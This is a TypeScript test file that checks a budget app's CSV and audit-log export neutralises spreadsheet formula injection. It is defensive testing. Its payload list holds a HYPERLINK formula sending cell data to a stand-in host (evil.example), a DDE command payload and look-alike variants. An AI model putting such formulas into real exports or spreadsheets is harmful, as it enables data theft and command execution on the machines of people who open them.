/**
 * The audit CSV export as an attacker would use it: a comment typed to run as a formula in the spreadsheet of
 * whoever exports the audit log (an admin) must arrive there as plain text. Pure functions, plus one run on
 * the audit entries a real server gives back.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv } from '../src/common/csv.js';
import { startTestServer, type TestServer } from '../../server/src/testing/harness.js';

/** The cells of a CSV line as a spreadsheet reads them (RFC 4180 quotes undone). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("((?:[^"]|"")*)"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
    out.push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
    if (m[3] === '') break;
  }
  return out;
}

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV export neutralises formulas', () => {
  it('prefixes every text that starts like a formula with an apostrophe, and leaves other text alone', () => {
    for (const formula of FORMULAS) expect(neutraliseFormula(formula), JSON.stringify(formula)).toBe(`'${formula}`);
    for (const plain of ['', 'Laptops', 'a = b', '1+1', "'quoted", 'Q1', '12.5']) expect(neutraliseFormula(plain)).toBe(plain);
  });

  it('writes no cell that starts like a formula, and keeps numbers as numbers', () => {
    const csv = toCsv(['value', 'amount'], [...FORMULAS.map((f) => [f, -3]), ['plain', 1200]]);
    const lines = csv.replace(/^\ufeff/, '').split('\r\n').filter(Boolean);
    // The CR inside the last formula is quoted, so split on CRLF only after parsing quoted cells.
    const rows = lines.map(cells);
    for (const row of rows.slice(1)) expect(row[0]).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.at(-1)).toEqual(['plain', '1200']);
    expect(rows[1]).toEqual([`'${FORMULAS[0]}`, '-3']);
  });
});

describe('CSV export as csv-stringify writes it', () => {
  it('writes a BOM, CRLF line ends, and RFC 4180 quotes only where a cell needs them', () => {
    const csv = toCsv(['a', 'b', 'c'], [['plain', 'with, comma', 'say "hi"'], [null, undefined, 0], ['two\nlines', 'a\rb', 12.5]]);
    expect(csv).toBe('\ufeffa,b,c\r\nplain,"with, comma","say ""hi"""\r\n,,0\r\n"two\nlines","a\rb",12.5\r\n');
  });

  it('neutralises the full-width look-alikes that Apple Numbers folds into = + - @', () => {
    for (const lookalike of ['\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(A1)']) {
      expect(neutraliseFormula(lookalike)).toBe(`'${lookalike}`);
      expect(toCsv(['v'], [[lookalike]]).split('\r\n')[1]).toBe(`'${lookalike}`);
    }
  });

  it('prefixes a negative-looking text but never a negative number', () => {
    expect(toCsv(['text', 'number'], [['-3', -3]]).split('\r\n')[1]).toBe("'-3,-3");
  });

  it('writes the characters the server exports write as U+FFFD the same way, keeping tabs and line breaks', () => {
    const csv = toCsv(['a'], [['x\uFFFEy'], ['\uFFFF'], ['bell\u0007'], ['two\nlines\tand tab'], ['\u0007=1+1']]).replace(/^\ufeff/, '');
    expect(csv).toBe('a\r\nx\uFFFDy\r\n\uFFFD\r\nbell\uFFFD\r\n"two\nlines\tand tab"\r\n\uFFFD=1+1\r\n');
  });

  it('neutralises a header cell like any other', () => {
    expect(toCsv(['=1+1'], []).replace(/^\ufeff/, '')).toBe("'=1+1\r\n");
  });
});

/** The audit entries as the audit page asks for them. */
const AUDIT_ENTRIES = `query($first: Int) { auditLog(first: $first) { edges { node { id at column oldValue newValue source user { id email displayName }
  line { id productCategory region quarter businessUnit { id code name } plan { id name } } } } } }`;

/**
 * The client's own audit export of `entries`. Loaded by a computed path: the server's typecheck of tests (which
 * includes this file) resolves modules the Node way, and the client's hooks behind auditFormat only type-check the
 * bundler way (client/tsconfig.json checks them).
 */
async function clientAuditCsv(entries: unknown[]): Promise<string> {
  const auditFormat = '../src/admin/auditFormat.js';
  const { auditCsv } = (await import(auditFormat)) as { auditCsv(entries: unknown[]): string };
  return auditCsv(entries);
}

describe('the audit export of a comment typed as a formula', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer();
  });
  afterAll(() => server?.stop());

  it('arrives in the spreadsheet as text', async () => {
    const lead = await server.login('lead.sales-north@example.com');
    const plans = await server.gql('{ budgetPlans { id } }', {}, lead);
    const lines = await server.gql('query($p: ID!) { budgetLines(planId: $p, businessUnitCode: "SALES_NORTH") { id } }', { p: plans.data.budgetPlans[0].id }, lead);
    const id = lines.data.budgetLines[0].id;
    for (const comment of ['=HYPERLINK("https://evil.example","x")', '@SUM(A1:A9)', '+cmd']) {
      const res = await server.gql('mutation($id: ID!, $c: String!) { updateBudgetLine(id: $id, input: { comment: $c }) { id } }', { id, c: comment }, lead);
      expect(res.errors).toBeUndefined();
    }
    const admin = await server.login('admin@example.com');
    const audit = await server.gql(AUDIT_ENTRIES, { first: 10 }, admin);
    expect(audit.errors).toBeUndefined();
    const csv = await clientAuditCsv(audit.data.auditLog.edges.map((e: { node: unknown }) => e.node));
    const rows = csv.replace(/^\ufeff/, '').split('\r\n').filter(Boolean).map(cells);
    expect(rows.length).toBe(4);
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.flat()).toContain(`'=HYPERLINK("https://evil.example","x")`);
  });

  it('writes a comment stored before the rules refused U+FFFE as the server exports do, U+FFFD', async () => {
    const lead = await server.login('lead.sales-north@example.com');
    const [line] = await server.sql(`SELECT l.id FROM budget_line l JOIN business_unit u ON u.id = l.business_unit_id WHERE u.code = 'SALES_NORTH' ORDER BY l.position OFFSET 3 LIMIT 1`);
    await server.sql(`UPDATE budget_line SET comment = $2 WHERE id = $1`, [line.id, 'stored \uFFFE before']);
    const res = await server.gql('mutation($id: ID!) { updateBudgetLine(id: $id, input: { comment: "after" }) { id } }', { id: line.id }, lead);
    expect(res.errors).toBeUndefined();
    const admin = await server.login('admin@example.com');
    const audit = await server.gql(AUDIT_ENTRIES, { first: 1 }, admin);
    expect(audit.data.auditLog.edges[0].node.oldValue).toBe('stored \uFFFE before');
    const csv = await clientAuditCsv(audit.data.auditLog.edges.map((e: { node: unknown }) => e.node));
    expect(csv).not.toContain('\uFFFE');
    expect(csv).toContain(',stored \uFFFD before,after,');
  });
});
